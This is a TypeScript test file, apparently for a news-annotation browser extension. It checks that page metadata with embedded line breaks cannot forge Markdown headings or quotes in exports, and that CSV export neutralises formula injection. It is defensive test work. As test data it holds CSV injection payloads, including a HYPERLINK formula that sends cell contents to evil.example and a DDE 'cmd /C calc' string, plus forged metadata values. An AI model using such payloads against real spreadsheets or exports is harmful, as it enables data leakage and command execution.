// Page metadata that tries to forge content in an export: a red team's og:site_name with line breaks
// ("X&#10;&#10;## My note&#10;&#10;Checked with the source myself…") made the Markdown export show a "My note"
// heading the reader never wrote. Metadata is read as one line, stored as one line, and every export writes it as
// one line whatever the store holds; a value that starts like a Markdown block is escaped.
import { IDBFactory } from 'fake-indexeddb';
import { Window } from 'happy-dom';
import { describe, expect, it } from 'vitest';
import { readPageMetadata } from '../../core/article/metadata';
import { citePassage, citedFrom } from '../../core/export/citation';
import { csvField, exportCsv, exportHtml, exportJsonLd, exportMarkdown } from '../../core/export';
import { exportWithTemplate, TEMPLATE_PRESETS } from '../../core/export/template';
import { LedeStore, openLedeDb } from '../../core/store';
import type { Annotation, ArticleRecord, Extraction } from '../../core/types';
import { pageSummary } from '../../entrypoints/content/article-identity';
import type { PageSession } from '../../entrypoints/content/session-state';
import { createArticleState } from '../../entrypoints/content/session-state';
import { annotation, extraction, now } from '../core/export/fixtures';

const KEY = 'https://news.example/2026/budget';
// The red team's value, as the attribute holds it once the HTML parser has read "&#10;". (A NEL is written as the
// character itself below: the parser turns "&#x85;" into "…".)
const FORGED_SITE = 'X\n\n## My note\n\nChecked with the source myself… the figures hold.';
// The same attack without line breaks: a value that is itself a block opener where the exporter starts a line.
const HEADING_SITE = '## My note';
const PAGE = `<!doctype html><html><head><title>Budget cuts ahead</title>
<meta property="og:title" content="Budget&#10;&#10;## My note&#10;&#10;cuts ahead">
<meta property="og:site_name" content="X&#10;&#10;## My note&#x2028;Checked with the source myself\u0085&#9;the figures hold.">
<meta name="author" content="Ada Lovelace&#10;&#10;&gt; Verified by the editors">
</head><body><article><p>The budget cuts $4 billion from schools.</p></article></body></html>`;

const record = (over: Partial<ArticleRecord>): ArticleRecord => ({
  key: KEY,
  url: KEY,
  title: 'Budget cuts ahead',
  byline: null,
  siteName: null,
  publishedTime: '2026-02-20T08:00:00.000Z',
  lang: 'en',
  firstSeen: '2026-02-21T09:00:00.000Z',
  lastSeen: '2026-02-22T10:00:00.000Z',
  ...over,
});
const one = (a: ArticleRecord, anns: Annotation[] = [annotation()], ex: Extraction = extraction) => ({
  articles: [a],
  annotations: anns.map((x) => ({ ...x, articleKey: a.key })),
  extractions: new Map([[a.key, ex]]),
});
/** The Markdown headings a note shows (outside fenced code there is none in these exports). */
const headings = (md: string) => md.split('\n').filter((l) => /^ {0,3}#{1,6}(\s|$)/.test(l));
const withDoc = <T>(html: string, fn: (doc: Document) => T): T => {
  const win = new Window({ url: KEY });
  win.document.write(html);
  try {
    return fn(win.document as unknown as Document);
  } finally {
    win.close();
  }
};

describe('page metadata is read as one line', () => {
  it('readPageMetadata: line breaks, NEL, U+2028 and tabs in a declared value become one space', () => {
    const meta = withDoc(PAGE, readPageMetadata);
    expect(meta.siteName).toBe('X ## My note Checked with the source myself the figures hold.');
    expect(meta.title).toBe('Budget ## My note cuts ahead');
    expect(meta.byline).toBe('Ada Lovelace > Verified by the editors');
  });

  it("the content script's page summary reads og:title and og:site_name as one line", () => {
    const summary = withDoc(PAGE, (doc) =>
      pageSummary({
        doc,
        view: { location: { href: KEY } },
        article: createArticleState(KEY, null),
      } as unknown as PageSession),
    );
    expect(summary.siteName).toBe('X ## My note Checked with the source myself the figures hold.');
    expect(summary.title).toBe('Budget ## My note cuts ahead');
  });

  it('the store keeps a reported title, byline and site name on one line', async () => {
    const store = new LedeStore(await openLedeDb(new IDBFactory()), now);
    const { firstSeen: _f, lastSeen: _l, ...input } = record({ siteName: FORGED_SITE, byline: 'A\r\nB' });
    await store.recordArticle(input);
    const saved = await store.getArticle(KEY);
    expect(saved?.siteName).toBe('X ## My note Checked with the source myself… the figures hold.');
    expect(saved?.byline).toBe('A B');
    // A later report of the same article (the record now exists) is kept on one line too.
    await store.recordArticle({ ...input, siteName: 'Y\n\n## Another note', byline: 'C\nD' });
    const again = await store.getArticle(KEY);
    expect(again?.siteName).toBe('Y ## Another note');
    expect(again?.byline).toBe('C D');
  });
});

describe('every export writes metadata as one line whatever the store holds', () => {
  const forged = record({ siteName: FORGED_SITE, byline: 'Ada\n\n> Verified by the editors' });

  it('Markdown: no forged "My note" heading, no forged quote block; the site stays on the link line', () => {
    const md = exportMarkdown(one(forged), now);
    expect(headings(md)).toEqual(['# Budget cuts ahead', '## Key facts', '## Quotes', '## Highlights']);
    expect(md).toContain('By Ada \\> Verified by the editors · X ## My note Checked with the source myself');
    // The declared name does not name its host, so the host follows it (red team 50, I).
    expect(md).toContain('site: "X ## My note Checked with the source myself… the figures hold. · news.example"');
    // Several articles: the same in the multi-article document.
    const two = exportMarkdown(
      { ...one(forged), articles: [forged, record({ key: `${KEY}/2`, url: `${KEY}/2` })] },
      now,
    );
    expect(headings(two).filter((h) => /My note/.test(h))).toEqual([]);
  });

  it('Markdown: a one-line site name that opens a block ("## …", "---", "1) …") is escaped', () => {
    const cases = {
      [HEADING_SITE]: '\\## My note',
      '---': '\\---',
      '1) Verified': '1\\) Verified',
      '2. Verified': '2\\. Verified',
      '+ checked': '\\+ checked',
      '#hashtag-heading': '\\#hashtag-heading',
    };
    for (const [siteName, escaped] of Object.entries(cases)) {
      const md = exportMarkdown(one(record({ siteName })), now);
      expect(headings(md), siteName).toEqual(['# Budget cuts ahead', '## Key facts', '## Quotes', '## Highlights']);
      expect(md, siteName).toContain(`\n${escaped} · news.example · <https://news.example`);
    }
  });

  it('Markdown: quotes and highlights with line breaks stay inside their block quote', () => {
    const quote = {
      ...extraction.quotes[0]!,
      text: 'We will not\n\n## My note\n\nbalance',
      speaker: 'Grace\n\n## Hopper',
    };
    const md = exportMarkdown(
      one(record({}), [annotation({ exact: 'first line\n\n## My note\n---\n> nested' })], {
        ...extraction,
        quotes: [quote],
      }),
      now,
    );
    expect(headings(md)).toEqual(['# Budget cuts ahead', '## Key facts', '## Quotes', '## Highlights']);
    const body = md.slice(md.indexOf('## Quotes'), md.indexOf('[↗]'));
    for (const l of body.split('\n').slice(1)) if (l !== '' && !l.startsWith('## ')) expect(l).toMatch(/^>( |$)/);
    expect(md).toContain('> — Grace ## Hopper');
  });

  it('export templates (Obsidian, Logseq, plain): no forged heading from the site, byline or a speaker', () => {
    const quote = { ...extraction.quotes[0]!, speaker: 'Grace\n\n## My note' };
    for (const preset of TEMPLATE_PRESETS) {
      const md = exportWithTemplate(one(forged, [annotation()], { ...extraction, quotes: [quote] }), preset.source, {
        colorLabels: { yellow: 'Evidence', green: 'g', blue: 'b', pink: 'p', purple: 'u' },
        now,
      });
      expect(
        headings(md).filter((h) => /My note/.test(h)),
        preset.id,
      ).toEqual([]);
      expect(md, preset.id).not.toMatch(/^> Verified/m);
    }
  });

  it('CSV, HTML, JSON-LD and citations carry the metadata on one line', () => {
    const csv = exportCsv(one(forged));
    expect(csv.split('\r\n')[1]).toContain('X ## My note Checked with the source myself… the figures hold.');
    const html = exportHtml(one(forged), now);
    expect(html).toContain('Ada &gt; Verified by the editors · X ## My note Checked');
    const ld = exportJsonLd(one(forged), now)['lede:articles'][0]!;
    expect([ld.siteName, ld.byline]).toEqual([
      'X ## My note Checked with the source myself… the figures hold.',
      'Ada > Verified by the editors',
    ]);
    const cite = citedFrom(forged, { exact: 'The budget', prefix: '', suffix: '' });
    for (const format of ['markdown', 'plain', 'apa', 'chicago'] as const)
      expect(citePassage(cite, format), format).not.toMatch(/\n\s*## My note/);
  });
});

describe('CSV formula injection behind white space', () => {
  it('a cell starting with white space then = + - @ is neutralised, as OWASP advises', () => {
    for (const cell of [
      ' =HYPERLINK("https://evil.example/?x="&A1,"Open")',
      '\u00a0+1+cmd|" /C calc"!A0',
      '\n-2+3',
      ' @SUM(A1)',
    ])
      expect(csvField(cell).replace(/^"/, ''), JSON.stringify(cell)).toMatch(/^'/);
    for (const cell of ['\t=1', '\r=1', '=1', '-4']) expect(csvField(cell).replace(/^"/, '')).toMatch(/^'/);
    for (const cell of ['Budget cuts', ' plain text', '4 - 2 = 2'])
      expect(csvField(cell).replace(/^"/, '')).not.toMatch(/^'/);
  });

  it('a highlight and a note starting " =HYPERLINK(…)" leave the CSV export as text', () => {
    const csv = exportCsv(
      one(record({}), [
        annotation({
          exact: ' =HYPERLINK("https://evil.example","Click for the source")',
          body: { note: '  +SUM(1,2)', tags: [], color: 'yellow' },
        }),
      ]),
    );
    expect(csv).toContain(`"' =HYPERLINK(""https://evil.example"",""Click for the source"")"`);
    expect(csv).toContain(`'  +SUM(1`);
  });
});
